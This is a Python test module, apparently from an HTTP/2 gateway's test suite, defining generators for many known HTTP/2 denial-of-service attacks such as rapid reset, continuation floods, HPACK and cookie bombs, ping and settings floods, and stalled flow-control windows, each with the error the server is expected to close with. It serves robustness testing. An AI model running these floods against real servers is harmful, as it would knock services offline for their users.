# SPDX-License-Identifier: Apache-2.0
# SPDX-FileCopyrightText: the Gibbon authors
"""Attacks by number or by patience. Each is a generator: bytes are sent, None lets time pass, and AGAIN goes on with a
new connection. When it has ended, its connection is held. "Row" is the row of the list of attacks."""
import itertools
from collections import namedtuple

from h2spec.wire import *

# `settings`: what the client begins with. `reads`: whether it reads what it is sent. `expects`: how every connection
# must be closed, where that is certain.
Attack = namedtuple("Attack", "name row play settings reads expects")
ATTACKS = []
OVER = object()
AGAIN = object()

GET = block(request(path="/attack"))
LARGE = block(request(path="/large"))
POST = block(request("POST", "/stall"))
STREAMS = 100
ENHANCE_YOUR_CALM = "ENHANCE_YOUR_CALM"


def attack(row, *settings, reads=True, expects=None):
    def add(play):
        ATTACKS.append(Attack(play.__name__, row, play, settings, reads, expects))
        return play

    return add


def stream_ids():
    return range(1, LARGEST_WINDOW, 2)


def batches(size, make):
    """What `make` has for each new stream, so many streams at once."""
    ids = iter(stream_ids())
    while batch := list(itertools.islice(ids, size)):
        yield b"".join(make(stream) for stream in batch)


def opened(head, count=STREAMS, flags=WHOLE):
    return b"".join(headers(1 + 2 * place, head, flags) for place in range(count))


def for_ever(payload):
    while True:
        yield payload


# Rows 1, 7, 16, 17: patience.


@attack(1, (INITIAL_WINDOW_SIZE, 0))
def data_dribble(_):
    """Windows that open by one byte."""
    yield opened(LARGE)
    yield from for_ever(b"".join(window_update(1 + 2 * place, 1) for place in range(STREAMS)))


@attack(7, (INITIAL_WINDOW_SIZE, LARGEST_WINDOW), reads=False)
def internal_buffering(_):
    """Windows wide open, and nobody reads from the socket."""
    yield window_update(0, LARGEST_WINDOW - 65_535)
    yield opened(LARGE)


@attack(7, (INITIAL_WINDOW_SIZE, LARGEST_WINDOW), reads=False)
def internal_buffering_of_many(_):
    """The same with ever more requests."""
    yield window_update(0, LARGEST_WINDOW - 65_535)
    yield from batches(50, lambda stream: headers(stream, LARGE, WHOLE))


@attack(17, (INITIAL_WINDOW_SIZE, 0))
def stalled_window(_):
    """Windows that never open."""
    yield opened(LARGE)


@attack(17)
def stalled_connection_window(_):
    yield opened(LARGE)


@attack(17)
def endless_head(_):
    """A header block that never ends."""
    yield headers(1, GET, END_STREAM)
    for _ in range(10):
        yield None
        yield continuation(1, literal(b"x-slow", b"1"), 0)


@attack(17)
def slow_bodies(_):
    """Bodies that never end."""
    yield opened(POST, flags=END_HEADERS)
    while True:
        for place in range(STREAMS):
            yield data(1 + 2 * place, b"x")
            yield None


# Rows 2 to 5: control frames.


@attack(2, expects=ENHANCE_YOUR_CALM)
def ping_flood(_):
    return for_ever(ping() * 500)


@attack(2, reads=False)
def ping_flood_unread(_):
    return for_ever(ping() * 500)


@attack(3, expects=ENHANCE_YOUR_CALM)
def priority_shuffle(_):
    shuffled = [priority(1 + 2 * place, (place * 7919) % 4001 * 2 + 2, place % 256, True) for place in range(2000)]
    return for_ever(b"".join(shuffled))


@attack(4, expects=ENHANCE_YOUR_CALM)
def reset_flood(_):
    """Requests that are malformed."""
    wrong = GET + literal(b"X-CAPITALS", b"1")
    return batches(100, lambda stream: headers(stream, wrong, WHOLE))


@attack(5, expects=ENHANCE_YOUR_CALM)
def settings_flood(_):
    return for_ever(settings((MAX_CONCURRENT_STREAMS, 100)) * 500)


@attack(5, reads=False)
def settings_flood_unread(_):
    return for_ever(settings() * 500)


@attack(5, expects=ENHANCE_YOUR_CALM)
def settings_oversized(_):
    return for_ever(settings(*[(INITIAL_WINDOW_SIZE, place) for place in range(2730)]))


# Row 8: frames that carry nothing.


@attack(8, expects=ENHANCE_YOUR_CALM)
def empty_data(_):
    yield headers(1, POST)
    yield from for_ever(data(1) * 500)


@attack(8, expects=ENHANCE_YOUR_CALM)
def padded_data(_):
    """Padding only."""
    yield headers(1, POST)
    yield from for_ever(data(1, bytes([255]) + b"\0" * 255, PADDED) * 100)


@attack(8, expects=ENHANCE_YOUR_CALM)
def empty_headers(_):
    return batches(500, lambda stream: headers(stream, b"", WHOLE))


@attack(8, expects=ENHANCE_YOUR_CALM)
def empty_continuation(_):
    yield headers(1, GET, END_STREAM)
    yield from for_ever(continuation(1, b"", 0) * 500)


@attack(8)
def tiny_data(play):
    """One byte in each frame, within the windows."""
    yield headers(1, POST)
    left = play.stream_window()
    while left > 100:
        left -= 100
        yield data(1, b"x") * 100


@attack(8, expects=ENHANCE_YOUR_CALM)
def unknown_frames(_):
    return for_ever(frame(0x77, 0, 0, b"") * 500)


# Rows 6, 9 to 11, 14, 16: header blocks.


@attack(6)
def empty_names(_):
    return batches(10, lambda stream: headers(stream, GET + b"\0\0\0" * 4000, WHOLE))


@attack(9)
def hpack_bomb(_):
    """One large entry, and as many references as a frame has room for."""
    bomb = GET + b"\x40" + text(b"x-bomb") + text(b"b" * 3900) + b"\xbe" * 12_000
    return batches(5, lambda stream: headers(stream, bomb, WHOLE))


@attack(10)
def huffman_cost(_):
    """Blocks that are costly to decode for requests that are too large anyway."""
    one = integer(58, 4) + huffman(b"e" * 25_000)
    return batches(2, lambda stream: headers(stream, GET, END_STREAM) + continuation(stream, one))


@attack(10)
def huffman_cost_of_refused(_):
    """The same for streams beyond the limit."""
    yield opened(POST, 128, END_HEADERS)
    one = integer(58, 4) + huffman(b"e" * 25_000)
    for batch in batches(1, lambda stream: headers(stream + 256, GET, END_STREAM) + continuation(stream + 256, one)):
        yield batch


@attack(11)
def header_names(_):
    """Names that nobody has used before."""

    def make(stream):
        names = b"".join(literal(b"x-%d-%d" % (stream, place), b"1") for place in range(300))
        return headers(stream, GET + names, WHOLE)

    return batches(10, make)


@attack(14, expects=ENHANCE_YOUR_CALM)
def continuation_flood(_):
    yield headers(1, GET, END_STREAM)
    yield from for_ever(continuation(1, literal(b"x-flood", b"f" * 16_000), 0))


@attack(14, expects=ENHANCE_YOUR_CALM)
def continuation_flood_of_small(_):
    yield headers(1, GET, END_STREAM)
    yield from for_ever(continuation(1, b"\x90", 0) * 500)


@attack(16, (INITIAL_WINDOW_SIZE, 0))
def http2_bomb(_):
    """Thousands of cookie crumbs by one byte each, and answers held by a window of 0."""
    crumbs = GET + b"\x40" + text(b"cookie") + text(b"a") + b"\xbe" * 16_000
    return batches(5, lambda stream: headers(stream, crumbs, WHOLE))


@attack(16, (INITIAL_WINDOW_SIZE, 0))
def http2_bomb_within_limits(_):
    """As many crumbs as are taken."""
    crumbs = block(request(path="/large")) + b"\x40" + text(b"cookie") + text(b"a") + b"\xbe" * 490
    yield opened(crumbs, 128)


@attack(16, (INITIAL_WINDOW_SIZE, 0))
def http2_bomb_in_trailers(_):
    crumbs = b"\x40" + text(b"x-crumb") + text(b"a") + b"\xbe" * 16_000
    return batches(5, lambda stream: headers(stream, POST) + headers(stream, crumbs, WHOLE))


# Rows 12, 13, 15: streams that end early.


@attack(12, expects=ENHANCE_YOUR_CALM)
def rapid_reset(_):
    return batches(100, lambda stream: headers(stream, GET, WHOLE) + reset(stream))


@attack(12, expects=ENHANCE_YOUR_CALM)
def rapid_reset_of_bodies(_):
    return batches(100, lambda stream: headers(stream, POST) + data(stream, b"x" * 100) + reset(stream))


@attack(13)
def reset_and_goaway(_):
    yield opened(POST, flags=END_HEADERS) + b"".join(reset(1 + 2 * place) for place in range(STREAMS)) + goaway()
    yield None
    yield AGAIN


@attack(13)
def goaway_amid_requests(_):
    yield opened(LARGE) + goaway()
    yield AGAIN


@attack(15)
def made_you_reset(_):
    """Requests whose windows are made too large."""
    return batches(
        100, lambda stream: headers(stream, LARGE, WHOLE) + window_update(stream, LARGEST_WINDOW))


@attack(15)
def made_you_reset_by_zero(_):
    return batches(100, lambda stream: headers(stream, LARGE, WHOLE) + window_update(stream, 0))


@attack(15)
def made_you_reset_by_data(_):
    return batches(100, lambda stream: headers(stream, LARGE, WHOLE) + data(stream, b"x"))


@attack(15)
def made_you_reset_after_goaway(_):
    yield goaway()
    yield from batches(100, lambda stream: headers(stream, LARGE, WHOLE) + window_update(stream, 0))


# Rows 18 and 20: numbers at their ends.


@attack(18, expects="PROTOCOL_ERROR")
def stream_exhaustion(_):
    yield headers(LARGEST_WINDOW, GET, WHOLE)
    yield headers(1, GET, WHOLE)


@attack(18, expects="PROTOCOL_ERROR")
def push_promise(_):
    yield frame(PUSH_PROMISE, END_HEADERS, 1, number(2) + GET)


@attack(20, expects="FLOW_CONTROL_ERROR")
def window_overflow(_):
    yield window_update(0, LARGEST_WINDOW) * 2


@attack(20, (INITIAL_WINDOW_SIZE, 0))
def settings_of_windows(_):
    """Settings that change the windows of many open streams."""
    yield opened(LARGE)
    while True:
        yield settings((INITIAL_WINDOW_SIZE, 0), (INITIAL_WINDOW_SIZE, LARGEST_WINDOW)) * 16 + settings(
            (INITIAL_WINDOW_SIZE, 0))


# Row 22: bodies that nobody reads.


@attack(22)
def unread_bodies(play):
    """As much as the windows let through, on as many streams as may be open."""
    yield opened(POST, flags=END_HEADERS)
    left = {1 + 2 * place: play.stream_window() for place in range(STREAMS)}
    spent = 0
    while True:
        stream = max(left, key=lambda stream: left[stream] + play.windows[stream])
        if min(play.windows[0] - spent, left[stream] + play.windows[stream]) < 16_384:
            yield None
            continue
        left[stream] -= 16_384
        spent += 16_384
        yield data(stream, b"x" * 16_384)


@attack(22)
def discarded_bodies(play):
    """DATA on streams that the gateway had to reset, within the windows."""
    yield headers(1, POST) + window_update(1, 0)
    spent = 0
    while True:
        if play.windows[0] - spent < 16_384:
            yield None
            continue
        spent += 16_384
        yield data(1, b"x" * 16_384)
